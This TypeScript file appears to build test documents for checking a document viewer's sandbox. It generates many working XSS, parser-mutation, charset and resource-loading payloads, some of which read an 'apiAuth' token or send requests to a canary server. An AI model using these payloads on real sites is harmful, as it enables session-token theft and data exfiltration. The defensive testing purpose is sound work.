/** A document that tries to run a script, to reach another server, or to read data that is not its own. */
export interface HostileDocument {
  /** The technique. */
  name: string;
  body: Buffer;
  contentType: string;
  /** Whether it needs a window of its own, because it would affect other documents in the same window. */
  isAlone: boolean;
}

/**
 * Makes a document for every technique. A script that runs calls `breach` where there is such a function, tries to read the token in
 * local storage, and sends a request to the canary.
 * @param canary address of a server that must not be reached, ending in a slash
 */
export function hostileDocuments(canary: string): HostileDocument[] {
  const run = (name: string) =>
    `try{breach('ran ${name}')}catch(e){};try{if(localStorage.getItem('apiAuth'))breach('token ${name}')}catch(e){};try{new Image().src='${canary}ran/${name}'}catch(e){}`;
  const groups = [scripts, handlers, scriptAddresses, nested, parserTricks, capabilities, requests, styles];
  const written = groups.flatMap((group) =>
    Object.entries(group).map(([name, make]) => ({
      name,
      body: Buffer.from(page(name, make(run(name), canary + name))),
      contentType: "text/html; charset=utf-8",
      // a window has only one focus
      isAlone: group === capabilities || name.includes("autofocus"),
    })),
  );
  return [...written, ...charsets(run).map((document) => ({ ...document, isAlone: false }))];
}

type Make = (js: string, outside: string) => string;

const page = (name: string, html: string) =>
  /^<(?:!doctype|html|frameset)/i.test(html) ? html : `<!doctype html><title>${name}</title><p>${name}</p>\n${html}`;
const base64 = (text: string) => Buffer.from(text).toString("base64");
const htmlEscape = (text: string) => text.replaceAll("&", "&amp;").replaceAll('"', "&quot;").replaceAll("<", "&lt;");

const scripts: Record<string, Make> = {
  script: (js) => `<script>${js}</script>`,
  "script-upper": (js) => `<SCRIPT>${js}</SCRIPT>`,
  "script-slash": (js) => `<script/x>${js}</script>`,
  "script-newline": (js) => `<script\n>${js}</script\n>`,
  "script-unclosed": (js) => `<script>${js}</script`.concat(">"),
  "script-module": (js) => `<script type="module">${js}</script>`,
  "script-outside": (_js, outside) => `<script src="${outside}.js"></script>`,
  "script-async": (_js, outside) => `<script async src="${outside}.js"></script>`,
  "script-data": (js) => `<script src="data:text/javascript;base64,${base64(js)}"></script>`,
  "script-import": (js) => `<script type="module">await import("data:text/javascript;base64,${base64(js)}")</script>`,
  "script-write": (js) => `<script>document.write("<script>" + ${JSON.stringify(js)} + "<\\/script>")</script>`,
  "script-eval": (js) => `<script>setTimeout(${JSON.stringify(js)})</script>`,
  "script-svg": (js) => `<svg><script>${js}</script></svg>`,
  "script-svg-data": (js) => `<svg><script href="data:text/javascript;base64,${base64(js)}"/></svg>`,
  "script-svg-xlink": (js) => `<svg><script xlink:href="data:text/javascript;base64,${base64(js)}"></script></svg>`,
  "script-svg-entities": (js) => `<svg><script>${js.replaceAll("(", "&#40;")}</script></svg>`,
  "script-foreignobject": (js) => `<svg><foreignObject><script>${js}</script></foreignObject></svg>`,
  "script-shadow": (js) => `<div><template shadowrootmode="open"><script>${js}</script></template></div>`,
  "script-template": (js) =>
    `<template id="t"><script>${js}</script></template><img src="data:," onerror="document.body.append(t.content)">`,
  "script-select": (js) => `<select><script>${js}</script></select>`,
  "script-table": (js) => `<table><script>${js}</script><tr><td></table>`,
  "script-mathtext": (js) => `<math><mtext><script>${js}</script></mtext></math>`,
  "script-event-for": (js) => `<script for="window" event="onload">${js}</script><script>${js}</script>`,
  "script-nonce": (js) => `<script nonce="x">${js}</script>`,
};

const handlers: Record<string, Make> = {
  "body-onload": (js) => `<!doctype html><title>x</title><body onload="${js}">`,
  "body-onpageshow": (js) => `<!doctype html><title>x</title><body onpageshow="${js}">`,
  "html-onload-late": (js) => `<p>x<body onload="${js}">`,
  "img-onerror": (js) => `<img src="data:," onerror="${js}">`,
  "img-onerror-slash": (js) => `<img/src="data:,"/onerror="${js}">`,
  "img-onerror-single": (js) => `<img src=x: onerror="${js}" onerror='1'>`,
  "img-onload": (js) => `<img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" onload="${js}" onerror="${js}">`,
  "image-onerror": (js) => `<image src="data:," onerror="${js}">`,
  "svg-onload": (js) => `<svg onload="${js}"></svg>`,
  "svg-image-onerror": (js) => `<svg><image href="data:," onerror="${js}"/></svg>`,
  "svg-animate-onbegin": (js) => `<svg><animate onbegin="${js}" attributeName="x" dur="1s"/></svg>`,
  "svg-set-onbegin": (js) => `<svg><set onbegin="${js}" attributeName="x" to="1"/></svg>`,
  "details-ontoggle": (js) => `<details open ontoggle="${js}"><summary>x</summary></details>`,
  "input-autofocus": (js) => `<input autofocus onfocus="${js}">`,
  "select-autofocus": (js) => `<select autofocus onfocus="${js}"></select>`,
  "textarea-autofocus": (js) => `<textarea autofocus onfocus="${js}"></textarea>`,
  "tabindex-autofocus": (js) => `<x tabindex=1 autofocus onfocus="${js}">x</x>`,
  "video-onerror": (js) => `<video src="data:," onerror="${js}"></video>`,
  "source-onerror": (js) => `<video><source src="data:," onerror="${js}"></video>`,
  "audio-onerror": (js) => `<audio src="data:," onerror="${js}"></audio>`,
  "object-onerror": (js) =>
    `<object data="x:" onerror="${js}"></object><object type="text/html" onload="${js}" data="about:blank"></object>`,
  "iframe-onload": (js) => `<iframe onload="${js}"></iframe>`,
  "style-onload": (js) => `<style onload="${js}">p{}</style>`,
  "link-onerror": (js) => `<link rel="stylesheet" href="x:y" onerror="${js}">`,
  "script-onerror": (js) => `<script src="x:y" onerror="${js}"></script>`,
  "animation-start": (js) => `<style>@keyframes a{}</style><p style="animation:a 1ms" onanimationstart="${js}">x`,
  "content-visibility": (js) => `<p style="content-visibility:auto" oncontentvisibilityautostatechange="${js}">x`,
  "frameset-onload": (js) => `<html><frameset onload="${js}"><frame></frameset></html>`,
};

const scriptAddresses: Record<string, Make> = {
  "iframe-javascript": (js) => `<iframe src="javascript:${js}"></iframe>`,
  "iframe-javascript-tab": (js) => `<iframe src="java&#9;script:${js}"></iframe>`,
  "iframe-javascript-entity": (js) => `<iframe src="&#106;avascript&colon;${js}"></iframe>`,
  "iframe-javascript-control": (js) => `<iframe src="&#1;javascript:${js}"></iframe>`,
  "object-javascript": (js) => `<object data="javascript:${js}"></object><iframe src="javascript:${js}"></iframe>`,
  "embed-javascript": (js) => `<embed src="javascript:${js}"><iframe src="javascript:${js}"></iframe>`,
  "frame-javascript": (js) => `<html><frameset><frame src="javascript:${js}"></frameset></html>`,
  "link-clicked": (js) => `<a id=a href="javascript:${js}">x</a><img src="data:," onerror="a.click()">`,
  "svg-link-clicked": (js) =>
    `<svg><a id=a xlink:href="javascript:${js}"><text y=9>x</text></a></svg><img src="data:," onerror="a.dispatchEvent(new MouseEvent('click'))">`,
  "svg-animated-link": (js) =>
    `<svg><a id=a><animate attributeName=href values="javascript:${js}"/><text y=9>x</text></a></svg><img src="data:," onerror="${js}">`,
  "form-action": (js) => `<form id=f action="javascript:${js}"></form><img src="data:," onerror="f.submit()">`,
  "button-formaction": (js) =>
    `<form><button id=b formaction="javascript:${js}">x</button></form><img src="data:," onerror="b.click()">`,
  "refresh-javascript": (js) =>
    `<meta http-equiv=refresh content="0;url=javascript:${js}"><img src="data:," onerror="${js}">`,
  "base-javascript": (js) =>
    `<base href="javascript:/a/-${js.length}//"><a href="x">x</a><img src="data:," onerror="${js}">`,
};

const nested: Record<string, Make> = {
  srcdoc: (js) => `<iframe srcdoc="<script>${htmlEscape(js)}</script>"></iframe>`,
  "srcdoc-encoded": (js) =>
    `<iframe srcdoc="&lt;img src=data:, onerror=&quot;${htmlEscape(htmlEscape(js))}&quot;&gt;"></iframe>`,
  "srcdoc-in-srcdoc": (js) =>
    `<iframe srcdoc="${htmlEscape(`<iframe srcdoc="${htmlEscape(`<script>${js}</script>`)}"></iframe>`)}"></iframe>`,
  "srcdoc-sandbox-scripts": (js) =>
    `<iframe sandbox="allow-scripts allow-same-origin allow-top-navigation" srcdoc="<script>${htmlEscape(js)}</script>"></iframe>`,
  "srcdoc-request": (_js, outside) => `<iframe srcdoc="<img src='${outside}'>"></iframe>`,
  "iframe-data": (js) => `<iframe src="data:text/html;base64,${base64(`<script>${js}</script>`)}"></iframe>`,
  "object-data": (js) => `<object data="data:text/html;base64,${base64(`<script>${js}</script>`)}"></object>`,
  "embed-data": (js) => `<embed src="data:text/html;base64,${base64(`<script>${js}</script>`)}">`,
  "iframe-data-svg": (js) =>
    `<iframe src="data:image/svg+xml;base64,${base64(`<svg xmlns="http://www.w3.org/2000/svg" onload="${js}"/>`)}"></iframe>`,
  "object-svg": (js) =>
    `<object type="image/svg+xml" data="data:image/svg+xml;base64,${base64(`<svg xmlns="http://www.w3.org/2000/svg"><script>${js}</script></svg>`)}"></object>`,
  "embed-svg": (js) =>
    `<embed type="image/svg+xml" src="data:image/svg+xml;base64,${base64(`<svg xmlns="http://www.w3.org/2000/svg"><script>${js}</script></svg>`)}">`,
  "iframe-xml-xslt": (js) =>
    `<iframe src="data:text/xml;base64,${base64(`<?xml version="1.0"?><x:script xmlns:x="http://www.w3.org/1999/xhtml">${js}</x:script>`)}"></iframe>`,
};

const parserTricks: Record<string, Make> = {
  "comment-abrupt": (js) => `<!--><img src="data:," onerror="${js}">-->`,
  "comment-bang": (js) => `<!-- --!><img src="data:," onerror="${js}"> -->`,
  "comment-nested": (js) => `<!-- <!-- --> <img src="data:," onerror="${js}"> -->`,
  "bogus-comment": (js) => `<?x ><img src="data:," onerror="${js}"> ?>`,
  "cdata-in-html": (js) => `<![CDATA[><img src="data:," onerror="${js}">]]>`,
  "cdata-in-svg": (js) => `<svg><![CDATA[</svg>]]><desc><img src="data:," onerror="${js}"></desc></svg>`,
  "title-break": (js) =>
    `<title><a title="</title><img src='data:,' onerror=&quot;&quot;></title><img src="data:," onerror="${js}">`,
  "textarea-break": (js) => `<textarea><!--</textarea><img src="data:," onerror="${js}">-->`,
  "style-break": (js) => `<style><!--</style><img src="data:," onerror="${js}">--></style>`,
  "xmp-break": (js) => `<xmp><a title="</xmp><img src=data:, onerror=1></xmp><img src="data:," onerror="${js}">`,
  "noscript-break": (js) =>
    `<noscript><p title="</noscript><img src=data:, onerror=1>"></noscript><img src="data:," onerror="${js}">`,
  "noembed-break": (js) =>
    `<noembed><a title="</noembed><img src=data:, onerror=1></noembed><img src="data:," onerror="${js}">`,
  "attribute-unquoted": (js) => `<img src=data:, title=\`"onerror="${js}"\` onerror="${js}">`,
  "attribute-nul": (js) => `<img src="data:," \0 onerror="${js}">`,
  "attribute-doubled": (js) => `<img src="data:," onerror="${js}" onerror="1" ONERROR="2">`,
  "tag-in-attribute": (js) => `<a title="<img src=x"><img src="data:," onerror="${js}"></a>`,
  "svg-style-markup": (js) => `<svg><style><img src="data:," onerror="${js}"></style></svg>`,
  "svg-title-markup": (js) => `<svg><title><img src="data:," onerror="${js}"></title></svg>`,
  "math-style-mutation": (js) =>
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;/mglyph&gt;&lt;img src=data:, onerror=1&gt;"><img src="data:," onerror="${js}">`,
  "form-mutation": (js) =>
    `<form><math><mtext></form><form><mglyph><svg><mtext><textarea><path id="</textarea><img onerror=1 src=data:,>"></textarea><img src="data:," onerror="${js}">`,
  deep: (js) => `${"<div>".repeat(5_000)}<img src="data:," onerror="${js}">`,
  "plaintext-before": (js) => `<img src="data:," onerror="${js}"><plaintext><script>${js}</script>`,
};

const capabilities: Record<string, Make> = {
  popup: (js, outside) => `<script>${js};open("${outside}")</script>`,
  "top-navigation": (js, outside) => `<script>${js};top.location="${outside}"</script>`,
  "self-navigation": (js, outside) => `<script>${js};location="${outside}"</script>`,
  "form-submit": (js, outside) =>
    `<form id=f action="${outside}" method=post><input name=a value=b></form><script>${js};f.submit()</script>`,
  dialog: (js) => `<script>${js};alert(1)</script>`,
  "post-message": (js) => `<script>${js};parent.postMessage({token:1},"*")</script>`,
  "service-worker": (js) => `<script>${js};navigator.serviceWorker?.register("/api/assets/sw.js")</script>`,
  worker: (js, outside) =>
    `<script>${js};new Worker(URL.createObjectURL(new Blob(["fetch('${outside}',{mode:'no-cors'})"])))</script>`,
  fetch: (js, outside) => `<script>${js};fetch("${outside}",{mode:"no-cors"})</script>`,
  beacon: (js, outside) => `<script>${js};navigator.sendBeacon("${outside}","x")</script>`,
  websocket: (js, outside) => `<script>${js};new WebSocket("${outside}".replace("http","ws"))</script>`,
  "event-source": (js, outside) => `<script>${js};new EventSource("${outside}")</script>`,
  "own-api": (js, outside) =>
    `<script>${js};fetch("/api/testobjects").then(r=>r.text()).then(t=>fetch("${outside}?"+t.length,{mode:"no-cors"}))</script>`,
  "parent-storage": (js) =>
    `<script>${js};try{if(parent.localStorage.getItem("apiAuth"))breach("token parent")}catch(e){}</script>`,
  download: (_js, outside) =>
    `<a id=a href="data:text/plain,x" download="x.txt">x</a><script>a.click();new Image().src="${outside}"</script>`,
};

const requests: Record<string, Make> = {
  img: (_js, outside) => `<img src="${outside}">`,
  "img-schemeless": (_js, outside) => `<img src="${outside.replace("http:", "")}">`,
  "img-backslash": (_js, outside) => `<img src="${outside.replace("//", "\\\\")}">`,
  "img-srcset": (_js, outside) => `<img srcset="${outside} 1x, ${outside}2 2x">`,
  picture: (_js, outside) => `<picture><source srcset="${outside}"><img src="data:,"></picture>`,
  "image-input": (_js, outside) => `<input type=image src="${outside}">`,
  "body-background": (_js, outside) => `<!doctype html><title>x</title><body background="${outside}">x`,
  "table-background": (_js, outside) => `<table background="${outside}"><tr><td>x</table>`,
  base: (_js, outside) => `<base href="${outside}/"><img src="relative.png">`,
  video: (_js, outside) => `<video src="${outside}" autoplay muted></video>`,
  "video-poster": (_js, outside) => `<video poster="${outside}"></video>`,
  "video-source": (_js, outside) => `<video preload=auto><source src="${outside}" type="video/mp4"></video>`,
  audio: (_js, outside) => `<audio src="${outside}" preload=auto></audio>`,
  track: (_js, outside) => `<video crossorigin=anonymous src="${outside}v"><track default src="${outside}"></video>`,
  iframe: (_js, outside) => `<iframe src="${outside}"></iframe>`,
  frame: (_js, outside) => `<html><frameset><frame src="${outside}"></frameset></html>`,
  object: (_js, outside) => `<object data="${outside}"></object>`,
  embed: (_js, outside) => `<embed src="${outside}">`,
  stylesheet: (_js, outside) => `<link rel=stylesheet href="${outside}">`,
  "stylesheet-alternate": (_js, outside) => `<link rel="alternate stylesheet" title=x href="${outside}">`,
  icon: (_js, outside) => `<link rel=icon href="${outside}"><img src="${outside}">`,
  prefetch: (_js, outside) => `<link rel=prefetch href="${outside}">`,
  preload: (_js, outside) => `<link rel=preload as=image href="${outside}">`,
  "preload-srcset": (_js, outside) => `<link rel=preload as=image imagesrcset="${outside} 1x" href="data:,">`,
  modulepreload: (_js, outside) => `<link rel=modulepreload href="${outside}">`,
  preconnect: (_js, outside) => `<link rel=preconnect href="${outside}"><link rel=dns-prefetch href="${outside}">`,
  manifest: (_js, outside) => `<link rel=manifest href="${outside}"><link rel=preload as=image href="${outside}">`,
  refresh: (_js, outside) => `<meta http-equiv=refresh content="0;url=${outside}">`,
  "refresh-quoted": (_js, outside) => `<meta http-equiv="Refresh" content="0; URL='${outside}'">`,
  speculation: (_js, outside) =>
    `<script type=speculationrules>{"prefetch":[{"source":"list","urls":["${outside}"]}]}</script><link rel=prefetch href="${outside}">`,
  attribution: (_js, outside) => `<img attributionsrc="${outside}" src="${outside}">`,
  "svg-image": (_js, outside) => `<svg><image href="${outside}" width=9 height=9 /></svg>`,
  "svg-feimage": (_js, outside) =>
    `<svg><filter id=f><feImage href="${outside}"/></filter><rect width=9 height=9 filter="url(#f)"/></svg>`,
  "svg-animated-image": (_js, outside) =>
    `<svg><image href="data:," width=9 height=9><set attributeName=href to="${outside}"/></image></svg>`,
  "svg-paint": (_js, outside) =>
    `<svg><rect width=9 height=9 mask="url(${outside}#m)" style="mask:url(${outside}#m)"/></svg>`,
  "shadow-img": (_js, outside) => `<div><template shadowrootmode=open><img src="${outside}"></template></div>`,
  "noscript-img": (_js, outside) => `<noscript><img src="${outside}"></noscript><img src="${outside}">`,
  "lazy-img": (_js, outside) => `<img class=lazyload data-src="${outside}" src="${outside}">`,
};

const styles: Record<string, Make> = {
  "css-background": (_js, outside) => `<style>p{background:url(${outside})}</style>`,
  "css-quoted": (_js, outside) => `<style>p{background:url("${outside}")}</style>`,
  "css-escaped": (_js, outside) => `<style>p{background:u\\72l("${outside}")}</style>`,
  "css-escaped-scheme": (_js, outside) => `<style>p{background:url(\\68 ttp${outside.slice(4)})}</style>`,
  "css-unclosed": (_js, outside) => `<style>p{background:url(${outside}`,
  "css-comment": (_js, outside) => `<style>/* url( */p{background:url(${outside})}</style>`,
  "css-import": (_js, outside) => `<style>@import "${outside}";</style>`,
  "css-import-url": (_js, outside) => `<style>@\\69mport url(${outside}) screen;</style>`,
  "css-font": (_js, outside) => `<style>@font-face{font-family:F;src:url(${outside})}p{font-family:F}</style>`,
  "css-image-set": (_js, outside) => `<style>p{background:image-set("${outside}" 1x)}</style>`,
  "css-content": (_js, outside) => `<style>p::before{content:url(${outside})}</style>`,
  "css-list": (_js, outside) => `<style>p{display:list-item;list-style-image:url(${outside})}</style>`,
  "css-variable": (_js, outside) => `<style>:root{--x:url(${outside})}p{background:var(--x)}</style>`,
  "css-exfiltration": (_js, outside) =>
    `<style>input[value^=s]{background:url(${outside}?s)}</style><input value=secret>`,
  "css-attribute": (_js, outside) => `<p style="background:url('${outside}')">x`,
  "css-attribute-entity": (_js, outside) => `<p style="background:url&#40;${outside})">x`,
  "css-svg": (_js, outside) =>
    `<svg><style>rect{fill:url(${outside}#x);mask-image:url(${outside})}</style><rect width=9 height=9 /></svg>`,
  "css-data-sheet": (_js, outside) =>
    `<link rel=stylesheet href="data:text/css,p{background:url(${encodeURIComponent(outside)})}">`,
  "css-layer": (_js, outside) =>
    `<style>@layer a{p{background:url(${outside})}}@supports(color:red){p{cursor:url(${outside}c),auto}}</style>`,
};

/** Documents whose bytes are a script in one charset but not in another. */
function charsets(run: (name: string) => string): Omit<HostileDocument, "isAlone">[] {
  const script = (name: string) => `<!doctype html><p>${name}<script>${run(name)}</script>`;
  const utf7 = (name: string) => script(name).replaceAll("<", "+ADw-").replaceAll(">", "+AD4-");
  return [
    { name: "utf-7-header", body: Buffer.from(utf7("utf-7-header")), contentType: "text/html; charset=utf-7" },
    { name: "utf-7-meta", body: Buffer.from(`<meta charset=utf-7>${utf7("utf-7-meta")}`), contentType: "text/html" },
    {
      name: "utf-16-le",
      body: Buffer.from(`\uFEFF${script("utf-16-le")}`, "utf16le"),
      contentType: "text/html; charset=utf-8",
    },
    {
      name: "utf-16-be",
      body: Buffer.from(`\uFEFF${script("utf-16-be")}`, "utf16le").swap16(),
      contentType: "text/html",
    },
    {
      name: "utf-16-unmarked",
      body: Buffer.from(script("utf-16-unmarked"), "utf16le"),
      contentType: "text/html; charset=utf-16le",
    },
    {
      name: "iso-2022-jp",
      body: Buffer.from(
        `<meta charset=iso-2022-jp><p title="\x1B$B">\x1B(B"><img src="data:," onerror="${run("iso-2022-jp")}">`,
        "latin1",
      ),
      contentType: "text/html",
    },
    {
      name: "shift-jis-lead",
      body: Buffer.concat([
        Buffer.from(`<meta charset=shift_jis><p title="`),
        Buffer.from([0x81]),
        Buffer.from(`"><img src="data:," onerror="${run("shift-jis-lead")}" title="x">`),
      ]),
      contentType: "text/html",
    },
    { name: "no-type", body: Buffer.from(script("no-type")), contentType: "" },
    {
      name: "xhtml",
      body: Buffer.from(
        `<html xmlns="http://www.w3.org/1999/xhtml"><head><title>x</title></head><body><script>${run("xhtml").replaceAll("&", "&amp;")}</script></body></html>`,
      ),
      contentType: "application/xhtml+xml",
    },
    {
      name: "nul-bytes",
      body: Buffer.from(`<p>x<s\0cript>1</s\0cript><script>${run("nul-bytes")}</script>`),
      contentType: "text/html; charset=utf-8",
    },
  ];
}
